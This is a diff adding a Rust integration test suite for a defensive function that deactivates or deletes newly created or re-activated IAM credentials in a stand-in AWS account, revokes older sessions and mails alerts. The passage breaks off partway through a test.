@@ -1,0 +1,896 @@
+//! The function `access-key` from end to end: events built from what the stand-in account answered, the function's own code against it over
+//! the wire, and then the account, the calls and the mails.
+
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in its helpers")]
+
+use std::num::NonZeroU32;
+use std::time::Duration;
+
+use access_key::AccessKey;
+use aws_sdk_iam::Client;
+use aws_sdk_iam::error::ProvideErrorMetadata;
+use aws_sdk_iam::types::StatusType;
+use chrono::TimeDelta;
+use rules::Outcome::{self, Alert, Contained, Failed, Reverted};
+use rules::access_key::Kind::{self, ServiceSpecificCredential, SigningCertificate, SshPublicKey};
+use runtime::Verdict::{Exempt, Ignored, Resent, Unreadable, Violation};
+use sandbox::{Fault, StandIn, StandInOptions, local_config};
+use serde_json::{Value, json};
+use tests::{ACCOUNT, DEVELOPER, Process, Ran, Stage, event, expected, publish, refused, stand_in, unique};
+
+const KEY: Kind = Kind::AccessKey;
+const QUARANTINE: &[(&str, &str)] = &[("ACCESS_KEY_MODE", "quarantine")];
+const ALERT: &[(&str, &str)] = &[("ACCESS_KEY_MODE", "alert")];
+const POLICY: &str = "snapback-revoke-older-sessions";
+const ALLOW_ALL: &str =
+    r#"{"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Action": "*", "Resource": "*"}}"#;
+const TRUST_ACCOUNT: &str = r#"{"Version": "2012-10-17", "Statement":
+    {"Effect": "Allow", "Principal": {"AWS": "123456789012"}, "Action": "sts:AssumeRole"}}"#;
+const SSH_KEY: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC example";
+const CERTIFICATE: &str = "-----BEGIN CERTIFICATE-----\n\
+MIIBdjCCARugAwIBAgIUMusuSff6fb5Ujzh9Ez/Zeep5aqYwCgYIKoZIzj0EAwIw\n\
+DzENMAsGA1UEAwwEdGVzdDAgFw0yNjExMjIxNDI3MDJaGA8yMTI2MTAyOTE0Mjcw\n\
+MlowDzENMAsGA1UEAwwEdGVzdDBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABCdO\n\
++P9MsfurVWOXFa2tFx6rA9otjGlFcOZv5NXoByenrG15TRInb7aXoJ1pYF/jT17Y\n\
+vdXumc7wAjFvqJug5UujUzBRMB0GA1UdDgQWBBTneC9PMg9xQJitVdZ/tEj9SqdI\n\
+TDAfBgNVHSMEGDAWgBTneC9PMg9xQJitVdZ/tEj9SqdITDAPBgNVHRMBAf8EBTAD\n\
+AQH/MAoGCCqGSM49BAMCA0kAMEYCIQD7mmfu2Djkj9H/F7a1JOxaq+69fq3klINN\n\
+pqz/ahGC7AIhAPRUHYNj451Osc20njkV0BLQe4mhUj9g1R/7DfOT6Fa9\n\
+-----END CERTIFICATE-----";
+
+// ---------------------------------------------------------------------------------------------------------
+// The account and the events
+
+/// A user in a stand-in account, with an access key that is nobody's business, and the function.
+struct Scene {
+    stage: Stage,
+    iam: Client,
+    user: String,
+    other_key: String,
+}
+
+/// A credential of the user: its event, and its id.
+struct Made {
+    kind: Kind,
+    id: String,
+    event: Value,
+}
+
+impl Scene {
+    async fn new() -> Self {
+        Self::of(Stage::new().await).await
+    }
+
+    async fn of(stage: Stage) -> Self {
+        let (iam, user) = (Client::new(&stage.admin), format!("user-{}", unique()));
+        iam.create_user().user_name(&user).send().await.unwrap();
+        let other = iam.create_access_key().user_name(&user).send().await.unwrap().access_key.unwrap();
+        Self { stage, iam, user, other_key: other.access_key_id }
+    }
+
+    /// A new credential and the event of its making.
+    async fn make(&self, kind: Kind) -> Made {
+        let (iam, user) = (&self.iam, &self.user);
+        let created = "Nov 22, 2026 2:02:40 PM";
+        let (name, id, request, response) = match kind {
+            Kind::AccessKey => {
+                let id =
+                    iam.create_access_key().user_name(user).send().await.unwrap().access_key.unwrap().access_key_id;
+                let made = json!({"userName": user, "accessKeyId": id, "status": "Active", "createDate": created});
+                ("CreateAccessKey", id, json!({"userName": user}), json!({"accessKey": made}))
+            }
+            ServiceSpecificCredential => {
+                let service = "bedrock.amazonaws.com";
+                let made = iam.create_service_specific_credential().user_name(user).service_name(service);
+                let made = made.send().await.unwrap().service_specific_credential.unwrap();
+                let id = made.service_specific_credential_id;
+                let request = json!({"userName": user, "serviceName": service});
+                let made = json!({"userName": user, "serviceSpecificCredentialId": id, "serviceName": service,
+                    "status": "Active", "createDate": created});
+                ("CreateServiceSpecificCredential", id, request, json!({"serviceSpecificCredential": made}))
+            }
+            SshPublicKey => {
+                let made = iam.upload_ssh_public_key().user_name(user).ssh_public_key_body(SSH_KEY).send().await;
+                let id = made.unwrap().ssh_public_key.unwrap().ssh_public_key_id;
+                let made = json!({"userName": user, "sSHPublicKeyId": id, "status": "Active", "uploadDate": created});
+                let request = json!({"userName": user, "sSHPublicKeyBody": SSH_KEY});
+                ("UploadSSHPublicKey", id, request, json!({"sSHPublicKey": made}))
+            }
+            SigningCertificate => {
+                let made = iam.upload_signing_certificate().user_name(user).certificate_body(CERTIFICATE).send().await;
+                let id = made.unwrap().certificate.unwrap().certificate_id;
+                let made = json!({"userName": user, "certificateId": id, "status": "Active", "uploadDate": created});
+                let request = json!({"userName": user, "certificateBody": CERTIFICATE});
+                ("UploadSigningCertificate", id, request, json!({"certificate": made}))
+            }
+        };
+        Made { kind, id, event: event("iam", name, request, response) }
+    }
+
+    /// A credential that was inactive and is active again, and the event of that.
+    async fn activate(&self, kind: Kind) -> Made {
+        let made = self.make(kind).await;
+        self.set(&made, StatusType::Inactive).await;
+        self.set(&made, StatusType::Active).await;
+        let event = self.updated(&made, "Active");
+        Made { event, ..made }
+    }
+
+    async fn new_or_activated(&self, kind: Kind, is_new: bool) -> Made {
+        if is_new { self.make(kind).await } else { self.activate(kind).await }
+    }
+
+    /// The event of setting a credential's status.
+    fn updated(&self, made: &Made, status: &str) -> Value {
+        let request = json!({"userName": self.user, field(made.kind): made.id, "status": status});
+        event("iam", &format!("Update{}", made.kind.api_name()), request, Value::Null)
+    }
+
+    async fn set(&self, made: &Made, status: StatusType) {
+        let (iam, user, id) = (&self.iam, &self.user, &made.id);
+        match made.kind {
+            Kind::AccessKey => {
+                let call = iam.update_access_key().user_name(user).access_key_id(id).status(status);
+                call.send().await.map(drop).unwrap();
+            }
+            ServiceSpecificCredential => {
+                let call = iam.update_service_specific_credential().user_name(user).status(status);
+                call.service_specific_credential_id(id).send().await.map(drop).unwrap();
+            }
+            SshPublicKey => {
+                let call = iam.update_ssh_public_key().user_name(user).ssh_public_key_id(id).status(status);
+                call.send().await.map(drop).unwrap();
+            }
+            SigningCertificate => {
+                let call = iam.update_signing_certificate().user_name(user).certificate_id(id).status(status);
+                call.send().await.map(drop).unwrap();
+            }
+        }
+    }
+
+    /// The status of a credential; `None` if it is gone.
+    async fn status(&self, made: &Made) -> Option<String> {
+        let (iam, user, id) = (&self.iam, &self.user, &made.id);
+        let status = match made.kind {
+            Kind::AccessKey => self.keys().await.into_iter().find(|(known, _)| known == id).map(|(_, status)| status),
+            ServiceSpecificCredential => {
+                let list = iam.list_service_specific_credentials().user_name(user).send().await.unwrap();
+                let mut list = list.service_specific_credentials.unwrap().into_iter();
+                list.find(|known| known.service_specific_credential_id == *id).map(|known| known.status)
+            }
+            SshPublicKey => {
+                let list = iam.list_ssh_public_keys().user_name(user).send().await.unwrap();
+                let mut list = list.ssh_public_keys.unwrap().into_iter();
+                list.find(|known| known.ssh_public_key_id == *id).map(|known| known.status)
+            }
+            SigningCertificate => {
+                let list = iam.list_signing_certificates().user_name(user).send().await.unwrap();
+                list.certificates.into_iter().find(|known| known.certificate_id == *id).map(|known| known.status)
+            }
+        };
+        status.map(|status| status.as_str().to_owned())
+    }
+
+    async fn keys(&self) -> Vec<(String, StatusType)> {
+        let list = self.iam.list_access_keys().user_name(&self.user).into_paginator().items();
+        let list: Vec<_> = list.send().try_collect().await.unwrap();
+        list.into_iter().map(|key| (key.access_key_id.unwrap(), key.status.unwrap())).collect()
+    }
+
+    /// Expects that a credential ended so, and that the user's other key works.
+    #[track_caller]
+    fn ended(&self, made: &Made, status: Option<&str>) -> impl Future<Output = ()> {
+        let place = std::panic::Location::caller();
+        async move {
+            assert_eq!(self.status(made).await.as_deref(), status, "{place}");
+            let other = self.keys().await.into_iter().find(|(id, _)| *id == self.other_key);
+            assert_eq!(other.unwrap().1, StatusType::Active, "{place}");
+        }
+    }
+
+    fn process(&self, settings: &[(&str, &str)]) -> Process<AccessKey> {
+        self.stage.process(AccessKey::new, settings)
+    }
+
+    /// A process that gets what happens now an hour later: it waits for nothing to become visible.
+    fn late_process(&self, settings: &[(&str, &str)]) -> Process<AccessKey> {
+        self.stage.process_ahead(AccessKey::new, settings, TimeDelta::try_hours(1).unwrap())
+    }
+
+    async fn run(&self, event: &Value) -> Ran {
+        self.stage.run(&self.process(&[]), event).await
+    }
+
+    async fn run_with(&self, settings: &[(&str, &str)], event: &Value) -> Ran {
+        self.stage.run(&self.process(settings), event).await
+    }
+
+    async fn run_late(&self, event: &Value) -> Ran {
+        self.stage.run(&self.late_process(&[]), event).await
+    }
+
+    /// The function's next calls of that action fail.
+    fn fail(&self, action: &str, code: &str, status: u16, times: u32) {
+        self.stage.inject(Fault { status, times, ..Fault::new("", action, code) });
+    }
+
+    fn deny(&self, action: &str) {
+        self.fail(action, "AccessDenied", 403, 1);
+    }
+
+    // The function's calls, as the stand-in sees them.
+
+    fn off(&self, made: &Made) -> String {
+        let parameters = [("UserName", self.user.as_str()), (wire(made.kind), &made.id), ("Status", "Inactive")];
+        expected(&format!("Update{}", made.kind.api_name()), &parameters)
+    }
+
+    fn deleted(&self, made: &Made) -> String {
+        let parameters = [("UserName", self.user.as_str()), (wire(made.kind), &made.id)];
+        expected(&format!("Delete{}", made.kind.api_name()), &parameters)
+    }
+
+    fn listed(&self, kind: Kind) -> String {
+        expected(&format!("List{}s", kind.api_name()), &[("UserName", &self.user)])
+    }
+
+    /// The first blow, and that an access key is asked about.
+    fn struck(&self, made: &Made) -> Vec<String> {
+        let last_use = (made.kind == KEY).then(|| last_use(made));
+        std::iter::once(self.off(made)).chain(last_use).collect()
+    }
+
+    /// A user's key in other hands: a client that signs with it, and may do everything that the user may.
+    async fn holder(&self, key: &str) -> aws_config::SdkConfig {
+        let policy = self.iam.put_user_policy().user_name(&self.user).policy_name("all").policy_document(ALLOW_ALL);
+        policy.send().await.unwrap();
+        local_config(stand_in().endpoint(), key).await
+    }
+
+    /// The document of the policy that denies older sessions, if it is on the user.
+    async fn session_policy(&self) -> Option<Value> {
+        let policy = self.iam.get_user_policy().user_name(&self.user).policy_name(POLICY).send().await.ok()?;
+        Some(rules::policy::parse(&json!(policy.policy_document)).unwrap())
+    }
+}
+
+fn last_use(made: &Made) -> String {
+    expected("GetAccessKeyLastUsed", &[("AccessKeyId", &made.id)])
+}
+
+/// The id's name in records.
+fn field(kind: Kind) -> &'static str {
+    match kind {
+        Kind::AccessKey => "accessKeyId",
+        ServiceSpecificCredential => "serviceSpecificCredentialId",
+        SshPublicKey => "sSHPublicKeyId",
+        SigningCertificate => "certificateId",
+    }
+}
+
+/// The id's name in requests.
+fn wire(kind: Kind) -> &'static str {
+    match kind {
+        Kind::AccessKey => "AccessKeyId",
+        ServiceSpecificCredential => "ServiceSpecificCredentialId",
+        SshPublicKey => "SSHPublicKeyId",
+        SigningCertificate => "CertificateId",
+    }
+}
+
+fn calls<const PARTS: usize>(parts: [Vec<String>; PARTS]) -> Vec<String> {
+    parts.concat()
+}
+
+/// The actions, where parameters hold times.
+fn actions(ran: &Ran) -> Vec<&str> {
+    ran.calls.iter().map(|call| call.action.as_str()).collect()
+}
+
+fn outcome(ran: &Ran) -> Outcome {
+    ran.handled.report.as_ref().unwrap().outcome
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// What is new, re-activated or reset
+
+#[tokio::test]
+async fn what_is_new_is_deactivated_first_and_then_deleted() {
+    for kind in Kind::ALL {
+        let scene = Scene::new().await;
+        let made = scene.make(kind).await;
+        let ran = scene.run(&made.event).await;
+        let rest = vec![scene.deleted(&made), scene.listed(kind), publish()];
+        ran.is(Violation, &[Reverted], &calls([scene.struck(&made), rest]));
+        ran.mail_says(&[&made.id, &scene.user, kind.words(), "it is gone", "seconds after the change", DEVELOPER]);
+        scene.ended(&made, None).await;
+    }
+}
+
+#[tokio::test]
+async fn quarantine_only_deactivates() {
+    for kind in Kind::ALL {
+        let scene = Scene::new().await;
+        let made = scene.make(kind).await;
+        let ran = scene.run_with(QUARANTINE, &made.event).await;
+        let rest = vec![scene.listed(kind), publish()];
+        ran.is(Violation, &[Contained], &calls([scene.struck(&made), rest]));
+        let by_hand = format!("delete-{}", kind.words().to_lowercase().replace(' ', "-"));
+        ran.mail_says(&["still there. Delete it", &by_hand]);
+        scene.ended(&made, Some("Inactive")).await;
+    }
+}
+
+#[tokio::test]
+async fn what_was_activated_is_deactivated_and_not_deleted() {
+    for kind in Kind::ALL {
+        for (settings, outcome) in [(&[][..], Reverted), (QUARANTINE, Contained)] {
+            let scene = Scene::new().await;
+            let made = scene.activate(kind).await;
+            let ran = scene.run_with(settings, &made.event).await;
+            let first = vec![scene.listed(kind)];
+            let rest = vec![scene.listed(kind), publish()];
+            ran.is(Violation, &[outcome], &calls([first, scene.struck(&made), rest]));
+            ran.mail_says(&["re-activated", "inactive, as before the change"]);
+            scene.ended(&made, Some("Inactive")).await;
+        }
+    }
+}
+
+#[tokio::test]
+async fn what_was_reset_is_deactivated_and_not_deleted() {
+    let scene = Scene::new().await;
+    let made = scene.make(ServiceSpecificCredential).await;
+    let reset = scene.iam.reset_service_specific_credential().user_name(&scene.user);
+    reset.service_specific_credential_id(&made.id).send().await.unwrap();
+    let response = made.event["detail"]["responseElements"].clone();
+    let request = json!({"userName": scene.user, "serviceSpecificCredentialId": made.id});
+    let event = event("iam", "ResetServiceSpecificCredential", request, response);
+
+    let ran = scene.run(&event).await;
+    let listed = scene.listed(ServiceSpecificCredential);
+    ran.is(Violation, &[Reverted], &[listed.clone(), scene.off(&made), listed.clone(), publish()]);
+    ran.mail_says(&["gave a new secret to", "with its new secret"]);
+    scene.ended(&made, Some("Inactive")).await;
+
+    // Inactive before: there is nothing to wait for.
+    let ran = scene.run(&event).await;
+    ran.is(Violation, &[Alert], &[listed, publish()]);
+    ran.mail_says(&["already inactive: reset"]);
+    assert!(ran.took < Duration::from_secs(5), "{:?}", ran.took);
+}
+
+#[tokio::test]
+async fn where_nobody_is_named_it_is_the_callers_own() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    let mut event = made.event.clone();
+    event["detail"]["requestParameters"] = Value::Null;
+    scene.run(&event).await.is(
+        Violation,
+        &[Reverted],
+        &calls([scene.struck(&made), vec![scene.deleted(&made), scene.listed(KEY), publish()]]),
+    );
+
+    let made = scene.activate(KEY).await;
+    let mut event = made.event.clone();
+    event["detail"]["requestParameters"].as_object_mut().unwrap().remove("userName");
+    event["detail"]["userIdentity"]["userName"] = json!(scene.user);
+    event["detail"]["userIdentity"]["arn"] = json!(format!("arn:aws:iam::{ACCOUNT}:user/{}", scene.user));
+    assert_eq!(outcome(&scene.run(&event).await), Reverted);
+    scene.ended(&made, Some("Inactive")).await;
+}
+
+#[tokio::test]
+async fn what_the_function_does_itself_is_no_violation() {
+    let scene = Scene::new().await;
+    for kind in Kind::ALL {
+        let made = scene.make(kind).await;
+        scene.run(&scene.updated(&made, "Inactive")).await.is(Ignored, &[], &[]);
+        scene.ended(&made, Some("Active")).await;
+    }
+}
+
+#[tokio::test]
+async fn trusted_actors_may_and_failed_calls_changed_nothing() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    scene.run_with(&[("TRUSTED_ACTORS", DEVELOPER)], &made.event).await.is(Exempt, &[], &[]);
+    scene.run_with(&[("ACCESS_KEY_MODE", "off")], &made.event).await.is(Ignored, &[], &[]);
+    let mut failed = made.event.clone();
+    failed["detail"]["errorCode"] = json!("AccessDenied");
+    scene.run(&failed).await.is(Ignored, &[], &[]);
+    scene.ended(&made, Some("Active")).await;
+
+    let mut blind = made.event.clone();
+    blind["detail"]["responseElements"] = Value::Null;
+    let ran = scene.run(&blind).await;
+    ran.is(Unreadable, &[Alert], &[publish()]);
+    ran.mail_says(&["no `accessKeyId`"]);
+}
+
+#[tokio::test]
+async fn a_key_of_the_root_user_is_told_and_nothing_is_called() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    let mut event = made.event.clone();
+    event["detail"]["userIdentity"] = json!({"type": "Root", "arn": format!("arn:aws:iam::{ACCOUNT}:root")});
+    // Root for a user is like anybody for a user.
+    assert_eq!(outcome(&scene.run(&event).await), Reverted);
+    scene.ended(&made, None).await;
+
+    event["detail"]["requestParameters"] = Value::Null;
+    event["detail"]["responseElements"]["accessKey"].as_object_mut().unwrap().remove("userName");
+    for settings in [&[][..], QUARANTINE, ALERT] {
+        let ran = scene.run_with(settings, &event).await;
+        ran.is(Violation, &[Alert], &[publish()]);
+        let delete = format!("aws iam delete-access-key --access-key-id {}", made.id);
+        ran.mail_says(&[
+            "ALERT: CRITICAL: new access key of the root user",
+            "--target-principal 123456789012",
+            &delete,
+        ]);
+    }
+}
+
+#[tokio::test]
+async fn modes_that_only_tell_change_nothing() {
+    for (kind, is_new) in Kind::ALL.into_iter().flat_map(|kind| [(kind, true), (kind, false)]) {
+        let scene = Scene::new().await;
+        let made = scene.new_or_activated(kind, is_new).await;
+        for (settings, text) in [
+            (ALERT, "AccessKeyMode is `alert`"),
+            (&[("ROLLOUT", "observe")][..], "would have reverted: "),
+            (&[("ROLLOUT", "observe"), ("ACCESS_KEY_MODE", "quarantine")][..], "would have reverted: "),
+        ] {
+            let ran = scene.run_with(settings, &made.event).await;
+            let last_use = (kind == KEY).then(|| last_use(&made)).into_iter().collect();
+            ran.is(Violation, &[Alert], &calls([vec![scene.listed(kind)], last_use, vec![publish()]]));
+            ran.mail_says(&[text, "It still works", "deactivate"]);
+            scene.ended(&made, Some("Active")).await;
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Used keys
+
+#[tokio::test]
+async fn a_holder_of_the_key_is_shut_out_and_the_users_other_key_works_on() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    let holder = Client::new(&scene.holder(&made.id).await);
+    let owner = Client::new(&scene.holder(&scene.other_key).await);
+    holder.list_users().send().await.unwrap();
+
+    let ran = scene.run(&made.event).await;
+    assert_eq!(ran.handled.error, None);
+    assert_eq!(
+        actions(&ran),
+        [
+            "UpdateAccessKey",
+            "GetAccessKeyLastUsed",
+            "PutUserPolicy",
+            "DeleteAccessKey",
+            "ListAccessKeys",
+            "LookupEvents",
+            "Publish"
+        ]
+    );
+    ran.mail_says(&[
+        "REVERTED: already used: new access key of ",
+        "for iam in us-east-1",
+        POLICY,
+        "no role was assumed",
+    ]);
+    let error = holder.list_users().send().await.unwrap_err();
+    assert_eq!(error.code(), Some("InvalidClientTokenId"));
+    owner.list_users().send().await.unwrap();
+    let policy = scene.session_policy().await.unwrap();
+    assert!(rules::policy::only_denies(&policy) && policy.to_string().contains("aws:TokenIssueTime"), "{policy}");
+    scene.ended(&made, None).await;
+}
+
+#[tokio::test]
+async fn roles_that_were_assumed_with_a_key_are_named() {
+    for settings in [&[][..], QUARANTINE] {
+        let scene = Scene::new().await;
+        let made = scene.make(KEY).await;
+        let sts = aws_sdk_sts::Client::new(&scene.holder(&made.id).await);
+        let role = format!("role-{}", unique());
+        let created = scene.iam.create_role().role_name(&role).assume_role_policy_document(TRUST_ACCOUNT);
+        let arn = created.send().await.unwrap().role.unwrap().arn;
+        sts.assume_role().role_arn(&arn).role_session_name("x").send().await.unwrap();
+
+        let ran = scene.run_with(settings, &made.event).await;
+        assert_eq!(ran.handled.error, None);
+        let command = format!("aws iam put-role-policy --role-name {role} --policy-name AWSRevokeOlderSessions");
+        ran.mail_says(&[&arn, &command, "As far as CloudTrail shows it by now in us-east-1", "minutes late"]);
+        assert!(scene.session_policy().await.is_some());
+    }
+}
+
+#[tokio::test]
+async fn where_the_event_history_cannot_be_read_that_is_said_and_no_more() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    Client::new(&scene.holder(&made.id).await).list_users().send().await.unwrap();
+    scene.fail("LookupEvents", "ThrottlingException", 400, 9);
+    let ran = scene.run(&made.event).await;
+    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Reverted));
+    ran.mail_says(&["is not known: `LookupEvents` failed: ThrottlingException"]);
+    scene.ended(&made, None).await;
+}
+
+#[tokio::test]
+async fn a_key_that_is_only_watched_keeps_its_sessions() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    Client::new(&scene.holder(&made.id).await).list_users().send().await.unwrap();
+    let ran = scene.run_with(ALERT, &made.event).await;
+    ran.is(Violation, &[Alert], &[scene.listed(KEY), last_use(&made), publish()]);
+    ran.mail_says(&["WAS ALREADY USED", "deny everything to temporary credentials"]);
+    assert_eq!(scene.session_policy().await, None);
+}
+
+/// Activated, used, and switched off again before anybody looks.
+#[tokio::test]
+async fn a_key_that_was_activated_only_for_a_moment_leaves_no_sessions() {
+    let scene = Scene::new().await;
+    let made = scene.activate(KEY).await;
+    Client::new(&scene.holder(&made.id).await).list_users().send().await.unwrap();
+    scene.set(&made, StatusType::Inactive).await;
+    let process = scene.late_process(&[]);
+    let ran = scene.stage.run(&process, &made.event).await;
+    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Alert));
+    assert_eq!(actions(&ran), ["ListAccessKeys", "GetAccessKeyLastUsed", "PutUserPolicy", "LookupEvents", "Publish"]);
+    ran.mail_says(&["already inactive", POLICY]);
+    assert!(scene.session_policy().await.is_some());
+    scene.stage.run(&process, &made.event).await.is(Violation, &[], &[scene.listed(KEY)]);
+    scene.ended(&made, Some("Inactive")).await;
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// The same event more than once, and in any order
+
+#[tokio::test]
+async fn twice_in_one_process_is_one_mail() {
+    for kind in Kind::ALL {
+        for (settings, is_new) in [(&[][..], true), (QUARANTINE, true), (&[][..], false), (QUARANTINE, false)] {
+            let scene = Scene::new().await;
+            let (process, made) = (scene.process(settings), scene.new_or_activated(kind, is_new).await);
+            assert_eq!(scene.stage.run(&process, &made.event).await.mails.len(), 1);
+            let again = scene.stage.run(&process, &made.event).await;
+            again.is(Violation, &[], &[scene.listed(kind)]);
+            assert!(again.took < Duration::from_secs(5), "{:?}", again.took);
+            let is_deleted = is_new && settings.is_empty();
+            scene.ended(&made, if is_deleted { None } else { Some("Inactive") }).await;
+        }
+    }
+}
+
+#[tokio::test]
+async fn in_a_second_process_it_is_already_gone() {
+    let scene = Scene::new().await;
+    for kind in Kind::ALL {
+        let made = scene.make(kind).await;
+        scene.run_late(&made.event).await;
+        let ran = scene.run_late(&made.event).await;
+        let first = refused(scene.off(&made), 404);
+        let asked = (kind == KEY).then(|| refused(last_use(&made), 404)).into_iter().collect();
+        ran.is(Violation, &[Alert], &calls([vec![first], asked, vec![publish()]]));
+        ran.mail_says(&["already gone: new", "Nothing was changed"]);
+        scene.ended(&made, None).await;
+    }
+    // Re-activated: it is there, and inactive.
+    let made = scene.activate(SshPublicKey).await;
+    scene.run_late(&made.event).await;
+    let ran = scene.run_late(&made.event).await;
+    ran.is(Violation, &[Alert], &[scene.listed(SshPublicKey), publish()]);
+    ran.mail_says(&["already inactive: re-activated"]);
+    // Quarantined: another process can't tell its own doing from the event's.
+    let made = scene.make(SshPublicKey).await;
+    for _ in 0..2 {
+        let ran = scene.run_with(QUARANTINE, &made.event).await;
+        ran.is(Violation, &[Contained], &[scene.off(&made), scene.listed(SshPublicKey), publish()]);
+    }
+}
+
+#[tokio::test]
+async fn two_processes_at_once_end_closed_and_both_tell() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    let (one, two) = (scene.late_process(&[]), scene.late_process(&[]));
+    let (one, two) = tokio::join!(one.handle(&made.event), two.handle(&made.event));
+    let outcomes = [one.report.unwrap().outcome, two.report.unwrap().outcome];
+    assert!(outcomes.contains(&Reverted) && !outcomes.contains(&Failed), "{outcomes:?}");
+    assert_eq!((one.error, two.error), (None, None));
+    assert_eq!(scene.stage.mails().await.len(), 2);
+    scene.ended(&made, None).await;
+}
+
+#[tokio::test]
+async fn made_deactivated_and_activated_end_alike_in_any_order() {
+    for order in [[0, 1, 2], [0, 2, 1], [1, 0, 2], [1, 2, 0], [2, 0, 1], [2, 1, 0]] {
+        let scene = Scene::new().await;
+        let made = scene.make(KEY).await;
+        let events = [made.event.clone(), scene.updated(&made, "Inactive"), scene.updated(&made, "Active")];
+        let process = scene.late_process(&[]);
+        for index in order {
+            let ran = scene.stage.run(&process, &events[index]).await;
+            assert_eq!(ran.handled.error, None, "{order:?}");
+            assert!(ran.handled.report.is_none_or(|report| report.outcome != Failed), "{order:?}");
+        }
+        scene.ended(&made, None).await;
+    }
+}
+
+#[tokio::test]
+async fn an_alert_that_could_not_be_sent_goes_out_with_the_retry() {
+    let scene = Scene::new().await;
+    for settings in [&[][..], QUARANTINE] {
+        let process = scene.process(settings);
+        let made = scene.make(SshPublicKey).await;
+        scene.fail("Publish", "InternalError", 500, 3);
+        let ran = scene.stage.run(&process, &made.event).await;
+        assert!(ran.handled.error.is_some() && ran.mails.is_empty());
+        let retry = scene.stage.run(&process, &made.event).await;
+        let outcome = if settings.is_empty() { Reverted } else { Contained };
+        retry.is(Resent, &[outcome], &[publish()]);
+        scene.stage.run(&process, &made.event).await.is(Violation, &[], &[scene.listed(SshPublicKey)]);
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// What is gone, not there yet, or elsewhere
+
+#[tokio::test]
+async fn a_key_of_a_user_who_was_deleted_is_already_gone() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    for (key, _) in scene.keys().await {
+        scene.iam.delete_access_key().user_name(&scene.user).access_key_id(key).send().await.unwrap();
+    }
+    scene.iam.delete_user().user_name(&scene.user).send().await.unwrap();
+    for settings in [&[][..], QUARANTINE, ALERT] {
+        let ran = scene.stage.run(&scene.late_process(settings), &made.event).await;
+        let first = if settings == ALERT { scene.listed(KEY) } else { scene.off(&made) };
+        ran.is(Violation, &[Alert], &[refused(first, 404), refused(last_use(&made), 404), publish()]);
+        ran.mail_says(&["already gone", "or its user was"]);
+    }
+    // Just now: it may be that it is not to be seen yet.
+    let ran = scene.run(&made.event).await;
+    assert_eq!((ran.handled.error.clone(), outcome(&ran)), (None, Alert));
+    assert!(ran.took >= Duration::from_secs(15) && ran.took < Duration::from_secs(25), "{:?}", ran.took);
+}
+
+#[tokio::test]
+async fn what_becomes_visible_late_is_found() {
+    let scene = Scene::new().await;
+    let made = scene.make(KEY).await;
+    scene.fail("UpdateAccessKey", "NoSuchEntity", 404, 2);
+    let ran = scene.run(&made.event).await;
+    let not_yet = vec![refused(scene.off(&made), 404), last_use(&made)];
+    let rest = vec![scene.deleted(&made), scene.listed(KEY), publish()];
+    ran.is(Violation, &[Reverted], &calls([not_yet.clone(), not_yet, scene.struck(&made), rest]));
+    scene.ended(&made, None).await;
+
+    // Shown inactive, as it was before.
+    let made = scene.activate(SshPublicKey).await;
+    scene.set(&made, StatusType::Inactive).await;
+    let process = scene.process(&[]);
+    let later = async {
+        tokio::time::sleep(Duration::from_secs(2)).await;
+        scene.set(&made, StatusType::Active).await;
+    };
+    let (handled, ()) = tokio::join!(process.handle(&made.event), later);
+    assert_eq!(handled.report.unwrap().outcome, Reverted);
+    scene.ended(&made, Some("Inactive")).await;
+}
+
+#[tokio::test]
+async fn a_key_is_found_after_its_user_was_renamed() {
+    for settings in [&[][..], ALERT] {
+        let mut scene = Scene::new().await;
+        let made = scene.make(KEY).await;
+        let old = scene.off(&made);
+        let old_list = scene.listed(KEY);
+        let new_name = format!("{}-renamed", scene.user);
+        scene.iam.update_user().user_name(&scene.user).new_user_name(&new_name).send().await.unwrap();
+        scene.user = new_name;
+        let ran = scene.run_with(settings, &made.event).await;
+        if settings.is_empty() {
+            let first = vec![refused(old, 404), last_use(&made)];
+            let rest = vec![scene.deleted(&made), scene.listed(KEY), publish()];
+            ran.is(Violation, &[Reverted], &calls([first, scene.struck(&made), rest]));
+            ran.mail_says(&["The user is named", &scene.user]);
+            scene.ended(&made, None).await;
+        } else {
+            let first = vec![refused(old_list, 404), last_use(&made)];
+            ran.is(Violation, &[Alert], &calls([first, vec![scene.listed(KEY), last_use(&made), publish()]]));
+            scene.ended(&made, Some("Active")).await;
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// What fails
+
+#[tokio::test]
+async fn where_deactivating_is_refused_deleting_contains_too() {
+    for kind in Kind::ALL {
+        let scene = Scene::new().await;
+        let made = scene.make(kind).await;
+        scene.deny(&format!("Update{}", kind.api_name()));
+        let ran = scene.run(&made.event).await;
+        let first = vec![refused(scene.off(&made), 403), scene.deleted(&made), scene.listed(kind)];
+        let asked = (kind == KEY).then(|| refused(last_use(&made), 404)).into_iter().collect();
+        ran.is(Violation, &[Reverted], &calls([first, asked, vec![publish()]]));
+        ran.mail_says(&["This failed: ", "AccessDenied", "Find out why"]);
+        scene.ended(&made, None).await;
+    }
+}
+
+#[tokio::test]
+async fn where_nothing_can_be_done_it_says_what_to_run_by_hand_and_the_retry_does_it() {
+    for kind in Kind::ALL {
+        let scene = Scene::new().await;
+        let (made, process) = (scene.make(kind).await, scene.process(&[]));
+        scene.deny(&format!("Update{}", kind.api_name()));
+        scene.deny(&format!("Delete{}", kind.api_name()));
+        let ran = scene.stage.run(&process, &made.event).await;
+        let asked = (kind == KEY).then(|| last_use(&made)).into_iter().collect();
